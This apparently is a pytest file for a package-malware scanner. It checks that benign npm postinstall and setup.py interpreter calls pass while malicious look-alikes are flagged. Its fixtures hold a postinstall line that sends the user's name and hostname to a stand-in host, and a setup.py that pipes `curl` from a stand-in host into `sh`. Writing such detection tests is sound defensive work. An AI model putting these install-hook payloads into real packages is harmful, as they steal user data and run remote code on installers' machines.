"""Benign look-alike of an inline-interpreter finding seen on a real stream release
(@tarojs/vite-runner pulls in core-js, whose postinstall is
`node -e "try{require('./postinstall')}catch(e){}"`), through the CLI in the real sandbox, next to
a sibling whose postinstall line carries code of its own after the same require.

`node -e` that only requires a file of the package runs no code from argv: it is `node FILE`, and
that file's actions are traced like any other. Code appended to the line is inline code again.

TEST FIXTURES, NOT MALWARE: the "exfiltration" goes to a reserved example name that only the
network simulator answers.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from builders import npm_tgz
from clirun import run_cli_json

pytestmark = pytest.mark.sandbox

# core-js's banner script: prints a message, nothing else
_BANNER = "console.log('Thank you for using the fixture library!');\n"

_SEND = ("require('https').get('https://collect.example/i?u=' + require('os').userInfo().username"
         " + '&h=' + require('os').hostname()).on('error', () => {})")


def _package(tmp_path: Path, name: str, postinstall: str) -> Path:
    pkg = {"name": name, "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": postinstall}}
    return npm_tgz(tmp_path / name, {"package.json": json.dumps(pkg), "postinstall.js": _BANNER,
                                     "index.js": "module.exports = { id: (x) => x };\n"})


def _analyze(tgz: Path, results: Path) -> dict:
    return run_cli_json("analyze", "npm", "--local", str(tgz), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")


def _node_e(docs: dict) -> list[str]:
    cmds = docs["report"]["dynamic"]["phases"]["install"]["commands"]
    return [" ".join(c["argv"]) for c in cmds if c["argv"][:2] == ["node", "-e"]]


def test_postinstall_that_requires_its_own_file_is_not_inline_code(tmp_path, results):
    docs = _analyze(_package(tmp_path, "corejs-like", "node -e \"try{require('./postinstall')}catch(e){}\""),
                    results)
    assert _node_e(docs), "the postinstall's node -e was not traced"
    v = docs["report"]["verdict"]
    assert "DYN-INLINE-INTERPRETER" not in v["rules_fired"], v["findings"]
    assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]


def test_code_appended_to_the_same_require_is_inline_code(tmp_path, results):
    line = f"node -e \"try{{require('./postinstall')}}catch(e){{}};{_SEND}\""
    docs = _analyze(_package(tmp_path, "corejs-beacon", line), results)
    assert _node_e(docs)
    v = docs["report"]["verdict"]
    assert "DYN-INLINE-INTERPRETER" in v["rules_fired"], v["findings"]
    assert v["label"] != "benign", json.dumps(v["findings"], indent=1)[:3000]


# A build that asks its interpreter where headers live (what cffi/cmake/meson builds do), and a
# setup.py that starts an interpreter with the same words in front of code that runs a command.
_QUERY = ("import subprocess, sys\n"
          "inc = subprocess.run([sys.executable, '-c', \"import sysconfig; print(sysconfig.get_paths()['include'])\"],"
          " capture_output=True, text=True).stdout\n"
          "from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{mod}'])\n")
_DISGUISED = ("import subprocess, sys\n"
              "subprocess.run([sys.executable, '-c', \"import sysconfig; import os; os.system('curl -s http://stage.example/x | sh')\"])\n"
              "from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{mod}'])\n")


def _build(tmp_path: Path, name: str, template: str) -> Path:
    from builders import pypi_sdist
    mod = name.replace("-", "_")
    return pypi_sdist(tmp_path, name, "1.0.0", {"setup.py": template.format(name=name, mod=mod),
                                                f"{mod}/__init__.py": ""})


def _pypi(sdist: Path, results: Path) -> dict:
    return run_cli_json("analyze", "pypi", "--local", str(sdist), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")


def _python_c(docs: dict) -> list[str]:
    cmds = docs["report"]["dynamic"]["phases"]["install"]["commands"]
    return [" ".join(c["argv"]) for c in cmds if len(c["argv"]) > 2 and c["argv"][1] == "-c"
            and "sysconfig" in c["argv"][2]]


def test_build_asking_its_interpreter_for_paths_is_not_inline_code(tmp_path, results):
    docs = _pypi(_build(tmp_path, "sysconfig-query", _QUERY), results)
    assert _python_c(docs), "the build's python -c was not traced"
    v = docs["report"]["verdict"]
    assert "DYN-INLINE-INTERPRETER" not in v["rules_fired"], v["findings"]


def test_code_behind_the_same_words_is_inline_code(tmp_path, results):
    docs = _pypi(_build(tmp_path, "sysconfig-disguise", _DISGUISED), results)
    assert _python_c(docs)
    v = docs["report"]["verdict"]
    assert "DYN-INLINE-INTERPRETER" in v["rules_fired"], v["findings"]
    assert v["label"] != "benign", json.dumps(v["findings"], indent=1)[:3000]
